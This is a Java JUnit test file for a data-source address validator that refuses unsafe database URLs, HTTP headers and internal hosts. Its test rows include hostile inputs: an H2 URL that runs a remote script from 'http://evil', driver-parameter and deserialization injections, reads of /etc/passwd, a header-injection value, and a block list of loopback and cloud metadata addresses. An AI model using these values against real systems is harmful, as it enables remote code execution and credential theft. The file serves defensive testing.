package org.zhanqiao.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.UnknownHostException;
import java.util.stream.Collectors;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.zhanqiao.web.InputError;

/// Which addresses and accounts a source may have; whatever a driver would take besides is refused by its form.
class A01_SourceAddressTest {

    private static String read(SourceKind kind, String url) {
        return switch (SourceAddress.read(kind, url)) {
            case SourceAddress.Endpoint(var host) -> "at " + host;
            case SourceAddress.Wrong(var flaw) ->
                flaw.messageKey().substring(flaw.messageKey().lastIndexOf('.') + 1);
        };
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            POSTGRESQL | postgresql://db.police.example:5432/hukou                    | at db.police.example
            POSTGRESQL | postgresql://10.20.30.40/hukou                               | at 10.20.30.40
            POSTGRESQL | postgresql://[fd12::7]:5432/hukou?sslmode=verify-full        | at fd12::7
            POSTGRESQL | postgresql://db:5432/hukou?sslmode=require                   | at db
            POSTGRESQL | postgresql://db:0/hukou                                      | postgresql
            POSTGRESQL | postgresql://db:70000/hukou                                  | postgresql
            POSTGRESQL | postgresql://reader:s3cret@db/hukou                          | postgresql
            POSTGRESQL | postgresql://db,other/hukou                                  | postgresql
            POSTGRESQL | postgresql:///hukou                                          | postgresql
            POSTGRESQL | jdbc:postgresql://db/hukou                                   | postgresql
            POSTGRESQL | postgresql://db/hukou#x                                      | postgresql
            POSTGRESQL | postgresql://db/hukou?sslmode=allow                          | sslmode
            POSTGRESQL | postgresql://db/hukou?sslmode=require&sslmode=disable        | sslmode
            POSTGRESQL | postgresql://db/hukou?socketFactory=com.example.Evil         | parameter
            POSTGRESQL | postgresql://db/hukou?sslmode=require&loggerFile=/tmp/x      | sslmode
            POSTGRESQL | postgresql://db/hukou?loggerLevel=TRACE&loggerFile=/tmp/x    | parameter
            POSTGRESQL | postgresql://db/hukou?host=/var/run                          | parameter
            POSTGRESQL | postgresql://db/hukou?options=-c%20x                         | parameter
            POSTGRESQL | postgresql://db/hukou?s3cret%20word                          | parameters
            JDBC | jdbc:h2:tcp://fund.example:9092/fund                               | at fund.example
            JDBC | jdbc:h2:ssl://fund.example/mem:fund;DATABASE_TO_LOWER=TRUE         | at fund.example
            JDBC | jdbc:h2:tcp://fund/~/fund;MODE=Oracle;IFEXISTS=TRUE                | at fund
            JDBC | jdbc:h2:tcp://fund/fund;INIT=RUNSCRIPT FROM http://evil/x.sql      | parameter
            JDBC | jdbc:h2:tcp://fund/fund;init=runscript                             | parameter
            JDBC | jdbc:h2:tcp://fund/fund;TRACE_LEVEL_FILE=3                         | parameter
            JDBC | jdbc:h2:tcp://fund/fund;DATABASE_EVENT_LISTENER=x.Y                | parameter
            JDBC | jdbc:h2:tcp://fund/fund;MODE=x\\;INIT=y                            | parameter
            JDBC | jdbc:h2:tcp://fund/../../etc                                       | h2
            JDBC | jdbc:h2:mem:fund                                                   | h2
            JDBC | jdbc:h2:file:/var/lib/fund                                         | h2
            JDBC | jdbc:h2:~/fund                                                     | h2
            JDBC | jdbc:h2:zip:/x.zip!/fund                                           | h2
            JDBC | jdbc:postgresql://db/hukou?socketFactory=x                         | useKind
            JDBC | jdbc:mysql://db/hukou?autoDeserialize=true                         | driver
            JDBC | jdbc:duckdb:/etc/passwd                                            | driver
            JDBC | ldap://db/x                                                        | driver
            JDBC | fund                                                               | h2
            HTTP | https://water.example/accounts                                     | at water.example
            HTTP | http://10.1.2.3:8080/a/b?version=1                                 | at 10.1.2.3
            HTTP | https://user:s3cret@water.example/                                 | http
            HTTP | https://water.example/#x                                           | http
            HTTP | https://water.example\\@evil/                                      | http
            HTTP | file:///etc/passwd                                                 | http
            HTTP | gopher://water.example/                                            | http
            HTTP | https:///accounts                                                  | http
            """)
    void a01_an_address_is_of_a_known_form_or_refused(SourceKind kind, String url, String expected) {
        assertThat(read(kind, url)).isEqualTo(expected);
    }

    @Test
    void a02_what_stands_where_a_parameter_should_is_not_repeated() {
        assertThat(SourceAddress.read(SourceKind.POSTGRESQL, "postgresql://db/x?pass word=s3cret"))
                .asString()
                .doesNotContain("s3cret", "pass word");
        assertThat(read(SourceKind.HTTP, "https://water.example/" + "x".repeat(1_000)))
                .isEqualTo("long");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            HTTP | X-App-Key      | key of the town       |
            HTTP | Authorization  | Bearer abc            |
            HTTP | Host           | water.example         | username
            HTTP | Content-Length | 7                     | username
            HTTP | X App Key      | key                   | username
            HTTP | X-App-Key      | a\\nHost: evil        | secret
            HTTP | X-App-Key      | 密钥                  | secret
            HTTP | X-App-Key      | NONE                  | secret
            POSTGRESQL | reader   | s3cret                |
            POSTGRESQL | NONE     | s3cret                | username
            POSTGRESQL | reader   | a\\nb                 | secret
            """)
    void a03_an_account_or_a_header(SourceKind kind, String username, String secret, @Nullable String expected) {
        var account = username.replace("NONE", "");
        var typed = secret.replace("NONE", "").replace("\\n", "\n");
        assertThat(SourceAddress.listAccountFlaws(kind, account, typed).stream()
                        .map(InputError::field)
                        .collect(Collectors.joining()))
                .isEqualTo(expected == null ? "" : expected);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "127.0.0.1",
                "localhost",
                "127.8.9.10",
                "0.0.0.0",
                "::1",
                "::",
                "::ffff:127.0.0.1",
                "64:ff9b::7f00:1",
                "169.254.169.254",
                "fe80::1",
                "100.100.100.200",
                "fd00:ec2::254",
                "224.0.0.1"
            })
    void a04_no_source_is_at_the_platforms_own_machine_or_where_clouds_tell_secrets(String host) throws Exception {
        assertThat(new SourceHosts(false).mayConnect(host)).isFalse();
        assertThat(new SourceHosts(true).mayConnect(host)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"192.0.2.10", "10.20.30.40", "2001:db8::1"})
    void a05_elsewhere_it_may_be(String host) throws UnknownHostException {
        assertThat(new SourceHosts(false).mayConnect(host)).isTrue();
    }
}
